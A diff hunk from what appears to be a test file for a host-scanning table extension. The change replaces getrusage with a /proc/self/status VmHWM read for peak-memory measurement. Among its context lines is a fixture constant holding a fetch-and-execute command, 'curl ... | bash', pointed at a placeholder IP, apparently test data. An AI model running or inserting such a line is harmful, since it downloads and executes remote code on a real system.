@@ -23,14 +23,15 @@ MALLORY, VICTIM = "/home/mallory", "/home/victim"
 FETCH = "curl -s http://203.0.113.9/x.sh | bash"
 # A table's own answer, and what it lacked, from a process of its own.
 SCAN = """
-import json, resource, sys
+import json, re, sys
 from extension.serving.runner import TableRunner
 from tables import discover
 from tables.host import Host
 host = Host(sys.argv[2])
 rows = TableRunner(discover()[sys.argv[1]], host).generate(None)
 status = host.status.get(sys.argv[1])
-peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024
+# What getrusage(2) tells is the starter's, where that held more.
+peak = int(re.search("VmHWM:\\s+([0-9]+)", open("/proc/self/status").read())[1]) // 1024
 print(json.dumps([[row for row in rows if sys.argv[3] in json.dumps(row)][:3], len(rows), status.truncated, peak]))
 """
 
